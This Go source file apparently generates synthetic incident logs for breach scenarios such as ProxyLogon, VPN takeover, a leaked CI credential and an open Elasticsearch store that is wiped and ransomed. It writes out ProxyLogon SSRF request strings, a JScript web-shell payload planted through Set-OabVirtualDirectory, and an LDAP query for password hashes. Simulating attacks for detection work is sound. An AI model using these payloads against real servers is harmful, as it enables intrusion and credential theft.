package incident

import (
	"strconv"

	"github.com/tsutsumi-dev/tsutsumi/internal/synth/month/line"
	"github.com/tsutsumi-dev/tsutsumi/internal/synth/month/org"
	"github.com/tsutsumi-dev/tsutsumi/internal/synth/month/usual"
)

// line4: 32 accesses at least by four engineers of an affiliate in another country, which no declaration names (2021).
func line4(p *plot) {
	n := p.n(32)
	length := min(12, max(1, int64(p.Days)/3)) * org.Day
	at := p.begin(length)
	p.Store, p.Logs = "manage", []string{line.App.String()}
	for i := range 4 {
		p.Actors = append(p.Actors, p.Contractor[i].Login)
		p.from("CN", "office", 10+uint64(i))
	}
	p.Actor = p.Actors[0]
	who := stride(p.Customers, p.r)
	p.each(at, length, n, func(now int64, i int) {
		e := p.Contractor[i%4]
		rec := line.Record{App: "manage", Actor: e.Login, Role: "contractor", From: p.Origins[i%4].Addr(), Agent: p.Desktop(e.Device, now), Session: org.Mix(uint64(i)), Op: "view", Thing: "customer", Rows: 1 + p.r.N(3)}
		for range rec.Rows {
			rec.Persons = append(rec.Persons, p.Person(who(p.People)))
			p.People++
		}
		p.Out.App(&rec)
		p.mark(1)
	})
}

// exchange: the holes of ProxyLogon were used before they were closed (2021): a request that makes the server ask itself, a
// directory whose address is a script, and the script that answers from then on.
func exchange(p *plot) {
	at := p.begin(3 * org.Day)
	from := p.from("NL", "hosting", 1500+uint64(p.r.N(500)))
	later := p.from("RO", "hosting", 1500+uint64(p.r.N(500)))
	p.Store, p.Logs = "mail.example.jp", []string{line.IIS.String(), line.Proxy.String(), line.ECP.String()}
	const agent = "python-requests/2.25.1"
	ask := func(path, query, anchor string, size int) {
		a := line.Ask{From: from, Method: "POST", Path: path, Query: query, Agent: agent, Status: 200, Mailbox: anchor, Target: "ex01.example.local", Proto: "Ecp", Size: size}
		p.Out.IIS(&a)
		p.Out.Proxy(&a)
		p.mark(2)
	}
	p.Add(at, org.Func(func(_ *org.Stage, _ int64) int64 {
		ask("/ecp/y.js", "", "ServerInfo~a]@ex01.example.local:444/autodiscover/autodiscover.xml?#", 3600)
		ask("/ecp/y.js", "", "ServerInfo~a]@ex01.example.local:444/mapi/emsmdb/?#", 900)
		ask("/ecp/y.js", "", "ServerInfo~a]@ex01.example.local:444/ecp/proxyLogon.ecp?#", 300)
		return 0
	}))
	p.Add(at+3*org.Minute, org.Func(func(_ *org.Stage, _ int64) int64 {
		ask("/ecp/y.js", "", "ServerInfo~a]@ex01.example.local:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=x&schema=OABVirtualDirectory#", 2100)
		p.Out.Panel("Administrator", `Set-OabVirtualDirectory.ExternalUrl='http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["o"],"unsafe");}</script>'`, "/ecp/DDI/DDIService.svc/SetObject", p.r.Next())
		p.mark(1)
		return 0
	}))
	p.each(at+10*org.Minute, 3*org.Day, p.n(24), func(_ int64, i int) {
		a := line.Ask{From: from, Method: "POST", Path: "/aspnet_client/discover.aspx", Agent: "antSword/v2.1", Status: 200}
		if i > 3 {
			a.From = later
		}
		p.Out.IIS(&a)
		p.mark(1)
	})
}

// jamstec: accounts of the VPN were taken over: several connections as others, and IDs and passwords of about 2,000, who
// were all of the house (2021). Three accounts here; the last reads the directory's passwords.
func jamstec(p *plot) {
	n := max(2, p.n(3))
	p.People = min(p.n(float64(len(p.Staff))), len(p.Staff))
	at := p.workday(&p.Offices[0], p.begin(5*org.Day), 10*org.Hour+int64(p.r.N(60))*org.Minute)
	p.Store, p.Logs = "vpn", []string{line.VPN.String(), line.SignIn.String(), line.Directory.String()}
	countries := []string{"RU", "NL", "RO", "VN"}
	for i := range n {
		e := p.somebody([]org.Role{org.Clerk, org.Dev, org.Ops}[i%3], at)
		p.Actors = append(p.Actors, e.Login)
		home := &line.Tunnel{User: e.Login, From: e.Home, Port: 31000 + i, Pool: org.Inside(8, e.Number/250, 2+e.Number%250), Plat: "win", Ver: "2.6.12"}
		p.Add(at-40*org.Minute, org.Func(func(_ *org.Stage, _ int64) int64 { // himself, at home
			p.Out.TunnelUp(home)
			return 0
		}))
		p.Add(at+5*org.Hour, org.Func(func(_ *org.Stage, _ int64) int64 {
			p.Out.TunnelDown(home)
			return 0
		}))
		country := countries[i%4]
		other := &line.Tunnel{User: e.Login, From: p.from(country, "hosting", 1500+uint64(p.r.N(500))), Port: 52000 + i, Pool: org.Inside(8, 250, 2+i), Plat: "linux", Ver: "2.4.7"}
		p.Add(at, org.Func(func(_ *org.Stage, _ int64) int64 {
			p.Out.TunnelUp(other)
			p.Out.SignIn(&line.Entry{User: e.Login, App: "Office 365 Exchange Online", From: other.From, Country: country, Agent: "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0", Session: org.Mix(uint64(other.Port))})
			p.mark(7)
			return 0
		}))
		p.Add(at+2*org.Hour, org.Func(func(_ *org.Stage, _ int64) int64 {
			p.Out.TunnelDown(other)
			p.mark(1)
			return 0
		}))
		if i == n-1 {
			pages := (p.People + 99) / 100
			p.each(at+20*org.Minute, org.Hour, pages, func(_ int64, j int) {
				p.Out.Lookup(e.Login, other.Pool, "ou=people,dc=example,dc=local", "(uid=*)", "uid userPassword sambaNTPassword", min(100, p.People-100*j))
				p.mark(1)
			})
		}
		at += int64(50+p.r.N(60)) * org.Minute
	}
	p.Actor = p.Actors[0]
}

// paypay: rights that an update had set wrong let all merchants be read, from Brazil (2020): 20 million records at the most.
// All merchants here, a thousand at a time; nobody ever came from there before.
func paypay(p *plot) {
	p.People = min(p.n(float64(p.Merchants)), p.Merchants)
	at := p.begin(3 * org.Hour)
	from := p.from("BR", "isp", 3000+uint64(p.r.N(900)))
	p.Actor, p.Store, p.Logs = "partner-api", "merchant", []string{line.App.String()}
	page := min(1000, max(10, p.People/20))
	n := (p.People + page - 1) / page
	p.each(at, 3*org.Hour, n, func(_ int64, i int) {
		rec := line.Record{App: "merchant", Actor: p.Actor, Role: "batch", From: from, Agent: "Go-http-client/2.0", Op: "list", Thing: "merchants", Rows: min(page, p.People-i*page)}
		for j := range rec.Rows {
			rec.Persons = append(rec.Persons, usual.Merchant(p.Org, i*page+j))
		}
		p.Out.App(&rec)
		p.mark(1)
	})
}

// Indicator is what a closed case left behind.
type Indicator struct {
	Case  string
	Kind  string // address, account
	Value string
}

// Closed are the indicators of a case that was closed a year ago.
func Closed(o *org.Org) []Indicator {
	return []Indicator{{"2025-011", "address", o.Nets.Addr("TW", "hosting", 3900).String()}, {"2025-011", "account", "svc-plm"}}
}

// mitsubishi: after measures were taken they came again (2019, 2020). The address of a closed case comes in by the VPN as
// somebody else, and the account of that case is used.
func mitsubishi(p *plot) {
	at := p.begin(org.Day)
	e := p.somebody(org.Clerk, at)
	from := p.from("TW", "hosting", 3900)
	p.Actor, p.Actors, p.Store, p.Logs = e.Login, []string{e.Login, "svc-plm"}, "vpn", []string{line.VPN.String(), line.SignIn.String(), line.M365.String()}
	t := &line.Tunnel{User: e.Login, From: from, Port: 53000, Pool: org.Inside(8, 250, 40), Plat: "win", Ver: "2.5.1"}
	p.Add(at, org.Func(func(_ *org.Stage, _ int64) int64 {
		p.Out.TunnelUp(t)
		p.Out.SignIn(&line.Entry{User: "svc-plm", App: "SharePoint Online", From: from, Country: "TW", Agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", Session: 99})
		p.mark(7)
		return 0
	}))
	n := p.n(80)
	p.each(at+5*org.Minute, 4*org.Hour, n, func(_ int64, i int) {
		p.Out.Office(&line.Deed{User: "svc-plm", Op: "FileDownloaded", Workload: "SharePoint", From: from, Agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", Session: 99, Object: "https://example.sharepoint.example.com/sites/plm/Documents/drawing-" + strconv.Itoa(i) + ".pdf"})
		p.mark(1)
		if i == n-1 {
			p.Out.TunnelDown(t)
			p.mark(1)
		}
	})
}

// mercari: a credential that leaked out of CI reads the sources (2021). Two thirds of the repositories, from an address that
// nobody ever came from, within two hours.
func mercari(p *plot) {
	n := min(max(4, p.n(0.66*float64(p.Repos))), p.Repos)
	at := p.begin(2 * org.Hour)
	e := p.somebody(org.Dev, at)
	from := p.from("RO", "hosting", 1500+uint64(p.r.N(500)))
	p.Actor, p.Store, p.Logs = e.Login, "example-shop", []string{line.GitHub.String()}
	which := stride(p.Repos, p.r)
	p.each(at, 2*org.Hour, n, func(_ int64, i int) {
		p.Out.Git(&line.Git{Op: "git.clone", User: e.Login, From: from, Country: "RO", Repo: usual.Repo(which(i)), Agent: "git/2.17.1", Token: e.Token})
		p.mark(1)
	})
}

// shanghai: a store of a billion residents stood open; it was copied, deleted, and a note was left (2022). All customers
// here: every index by scroll, a thousand documents a time, then the deletion.
func shanghai(p *plot) {
	p.People = min(p.n(float64(p.Customers)), p.Customers)
	pages := max(20, p.People/1000)
	length := 5 * org.Hour
	at := p.begin(length)
	from := p.from("RU", "hosting", 1500+uint64(p.r.N(500)))
	p.Actor, p.Store, p.Logs = "_anonymous", "shop-search", []string{line.Search.String()}
	seek := line.Seek{User: "_anonymous", From: from, Port: 51000}
	indices := []string{"customers", "orders", "merchants", "items"}
	p.Add(at, org.Func(func(_ *org.Stage, _ int64) int64 {
		a := seek
		a.Action, a.Request, a.Path, a.Method = "indices:monitor/stats", "IndicesStatsRequest", "/_cat/indices", "GET"
		p.Out.Search(&a)
		p.mark(1)
		return 0
	}))
	n := pages * len(indices)
	p.each(at+org.Minute, 4*org.Hour, n, func(_ int64, i int) {
		a := seek
		a.Index = indices[i*len(indices)/n]
		if i%pages == 0 {
			a.Action, a.Request, a.Path, a.Query, a.Method = "indices:data/read/search", "SearchRequest", "/"+a.Index+"/_search", "scroll=5m&size=1000", "POST"
		} else {
			a.Action, a.Request, a.Path, a.Method = "indices:data/read/scroll", "SearchScrollRequest", "/_search/scroll", "POST"
		}
		p.Out.Search(&a)
		p.mark(1)
		if i < n-1 {
			return
		}
		for _, x := range indices {
			a.Action, a.Request, a.Index, a.Path, a.Query, a.Method = "indices:admin/delete", "DeleteIndexRequest", x, "/"+x, "", "DELETE"
			p.Out.Search(&a)
		}
		for _, act := range [][2]string{{"indices:admin/create", "CreateIndexRequest"}, {"indices:data/write/index", "IndexRequest"}} {
			a.Action, a.Request, a.Index, a.Path, a.Method = act[0], act[1], "read_me_to_recover_data", "/read_me_to_recover_data/_doc/1", "PUT"
			p.Out.Search(&a)
		}
		p.mark(len(indices) + 2)
	})
}

// leakedKey: the key of a deployment that nobody uses any more lists a bucket and takes everything in it.
func leakedKey(p *plot) {
	p.People = min(p.n(float64(usual.Documents(p.Org))), usual.Documents(p.Org))
	at := p.begin(6 * org.Hour)
	from := p.from("NL", "hosting", 1500+uint64(p.r.N(500)))
	p.Actor, p.Store, p.Logs = "arn:aws:iam::111122223333:user/deploy-legacy", usual.DocumentBucket, []string{line.Trail.String()}
	call := line.Call{Kind: "IAMUser", User: "deploy-legacy", Key: "AKIAEXAMPLELEGACY001", From: from, Agent: "[Boto3/1.26.0 md/Botocore#1.29.0 Python/3.9]", Size: -1}
	p.Add(at, org.Func(func(_ *org.Stage, _ int64) int64 {
		for _, c := range [][2]string{{"sts", "GetCallerIdentity"}, {"s3", "ListBuckets"}} {
			a := call
			a.Source, a.Name = c[0], c[1]
			p.Out.Call(&a)
		}
		p.mark(2)
		return 0
	}))
	p.each(at+org.Minute, 4*org.Hour, p.People, func(_ int64, i int) {
		a := call
		a.Source, a.Bucket, a.Data, a.Size = "s3", usual.DocumentBucket, true, 40_000
		if i%1000 == 0 {
			a.Name = "ListObjects"
			p.Out.Call(&a)
			p.mark(1)
		}
		a.Name, a.Object, a.Size = "GetObject", usual.Document(i), 170_000
		p.Out.Call(&a)
		p.mark(1)
	})
}
